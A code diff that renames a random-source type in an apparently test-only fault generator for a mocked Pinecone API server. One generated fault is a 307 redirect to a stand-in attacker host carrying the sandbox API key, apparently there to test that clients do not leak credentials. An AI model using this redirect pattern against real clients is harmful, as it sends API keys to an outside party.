@@ -6,7 +6,7 @@ import {
   type FaultScope,
   type Operation
 } from '../../sandbox/pinecone/server.ts'
-import type { Dice } from './dice.ts'
+import type { Random } from './random.ts'
 
 const READS: readonly Operation[] = ['listIndexes', 'describeIndex', 'listAssistants', 'describeAssistant']
 const CREATES: readonly Operation[] = ['createIndex', 'createIndexForModel', 'createAssistant']
@@ -47,57 +47,57 @@ const BODIES: readonly unknown[] = [
 export const NO_TROUBLE: Trouble = { faults: [], isPassing: true }
 
 /** Takes how many faults at most; gives as many as chance has it. */
-export function troubleFrom(dice: Dice, most: number): Trouble {
-  const isPassing = dice.chance(0.5)
-  const faults = Array.from({ length: dice.integer(1, most) }, () => faultFrom(dice, isPassing))
+export function troubleFrom(random: Random, most: number): Trouble {
+  const isPassing = random.chance(0.5)
+  const faults = Array.from({ length: random.integer(1, most) }, () => faultFrom(random, isPassing))
   return { faults, isPassing }
 }
 
 /** One or two faults for a run on a real clock: each passes soon. */
-export function quickTroubleFrom(dice: Dice): Fault[] {
-  return Array.from({ length: dice.integer(1, 2) }, () => {
-    const kind = passingKind(dice)
+export function quickTroubleFrom(random: Random): Fault[] {
+  return Array.from({ length: random.integer(1, 2) }, () => {
+    const kind = passingKind(random)
     const isQuick = kind.kind === 'reset' || kind.kind === 'truncated-body'
     const quick: FaultKind = isQuick
       ? kind
-      : { kind: 'answer', status: 503, after: dice.chance(0.5), body: dice.pick(BODIES) }
-    return { operation: dice.pick(OPERATIONS), times: 1, ...quick }
+      : { kind: 'answer', status: 503, after: random.chance(0.5), body: random.pick(BODIES) }
+    return { operation: random.pick(OPERATIONS), times: 1, ...quick }
   })
 }
 
-function faultFrom(dice: Dice, isPassing: boolean): Fault {
-  const kind = isPassing || dice.chance(0.75) ? passingKind(dice) : finalKind(dice)
-  return { ...scopeFrom(dice, isPassing), ...kind }
+function faultFrom(random: Random, isPassing: boolean): Fault {
+  const kind = isPassing || random.chance(0.75) ? passingKind(random) : finalKind(random)
+  return { ...scopeFrom(random, isPassing), ...kind }
 }
 
-function scopeFrom(dice: Dice, isPassing: boolean): FaultScope {
-  const operation = dice.chance(0.15) ? '*' : dice.pick(OPERATIONS)
-  const skip = dice.pick([0, 0, 0, 1, 2, 3])
-  if (isPassing || dice.chance(0.6)) return { operation, skip, times: dice.integer(1, 3) }
-  return { operation, skip, probability: dice.pick([0.05, 0.1, 0.3]), times: dice.integer(2, 30) }
+function scopeFrom(random: Random, isPassing: boolean): FaultScope {
+  const operation = random.chance(0.15) ? '*' : random.pick(OPERATIONS)
+  const skip = random.pick([0, 0, 0, 1, 2, 3])
+  if (isPassing || random.chance(0.6)) return { operation, skip, times: random.integer(1, 3) }
+  return { operation, skip, probability: random.pick([0.05, 0.1, 0.3]), times: random.integer(2, 30) }
 }
 
-function passingKind(dice: Dice): FaultKind {
-  const after = dice.chance(0.5)
-  const throwOf = dice.random()
-  if (throwOf < 0.5) return answer(dice, dice.pick(TRANSIENT), after)
-  if (throwOf < 0.7) return { kind: 'reset', after }
-  if (throwOf < 0.8) return { kind: 'truncated-body' }
+function passingKind(random: Random): FaultKind {
+  const after = random.chance(0.5)
+  const draw = random.next()
+  if (draw < 0.5) return answer(random, random.pick(TRANSIENT), after)
+  if (draw < 0.7) return { kind: 'reset', after }
+  if (draw < 0.8) return { kind: 'truncated-body' }
   // These cost real time, if only a little.
-  if (throwOf < 0.82) return { kind: dice.pick(['stall', 'stalled-body']), after }
-  return { kind: 'stale', ms: dice.integer(100, 6000) }
+  if (draw < 0.82) return { kind: random.pick(['stall', 'stalled-body']), after }
+  return { kind: 'stale', ms: random.integer(100, 6000) }
 }
 
-function finalKind(dice: Dice): FaultKind {
-  if (dice.chance(0.1)) {
+function finalKind(random: Random): FaultKind {
+  if (random.chance(0.1)) {
     return { kind: 'redirect', status: 307, location: `https://evil.example/?key=${SANDBOX_API_KEY}` }
   }
-  return answer(dice, dice.pick(FINAL), false)
+  return answer(random, random.pick(FINAL), false)
 }
 
-function answer(dice: Dice, status: number, after: boolean): FaultKind {
-  const headers = dice.chance(0.3) ? { 'retry-after': dice.pick(['0', '1', '3', '7', '1.5', 'soon', '-3']) } : {}
-  const body = dice.pick(BODIES)
+function answer(random: Random, status: number, after: boolean): FaultKind {
+  const headers = random.chance(0.3) ? { 'retry-after': random.pick(['0', '1', '3', '7', '1.5', 'soon', '-3']) } : {}
+  const body = random.pick(BODIES)
   return { kind: 'answer', status, headers, after, ...(body === undefined ? {} : { body }) }
 }
 
